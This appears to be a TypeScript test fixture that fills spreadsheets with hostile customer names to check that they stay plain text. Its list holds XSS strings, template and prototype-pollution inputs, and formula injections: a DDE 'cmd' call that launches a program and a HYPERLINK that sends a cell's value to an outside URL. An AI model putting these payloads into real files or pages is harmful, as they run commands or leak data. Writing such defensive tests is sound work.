/** Customers as somebody would name them who wants a spreadsheet, or a page that shows it, to do something. */
import { workbookOf } from './workbooks';

export const HOSTILE_NAMES: readonly string[] = [
  '<script>document.title="owned"</script>',
  '<img src=x onerror="document.title=\'owned\'">',
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  'javascript:document.title="owned"',
  '{{constructor.constructor("document.title=1")()}}',
  '__proto__',
  'constructor',
  '\u202Egnp.exe\u202C 贸易',
  'A\u200Bc\u200Dm\uFEFFe 公司',
  '𠮷野家 👨‍👩‍👧 Ltd',
  '&amp;&lt;b&gt;',
  '长'.repeat(32_767),
  "'quoted",
];

const HEADER = ['客户名称', '联系人', '年采购量', '最近联系'];

/** One a row, from the second on: names are text, however they look. */
export const hostileWorkbook = () =>
  workbookOf({
    header: HEADER,
    rows: HOSTILE_NAMES.map((name, i) => [name, 'Tom', 100 * (i + 1), 46300 + i]),
  });

/** The same as orders: the result goes to a sheet of ours, names and all. */
export const hostileLedger = () =>
  workbookOf({
    header: ['订单号', '客户名称', '下单日期', '数量'],
    rows: HOSTILE_NAMES.flatMap((name, i) => [
      [`PO-${i}-1`, name, 46200 + i, 40 * (i + 1)],
      [`PO-${i}-2`, name, 46300 + i, 60 * (i + 1)],
    ]),
  });
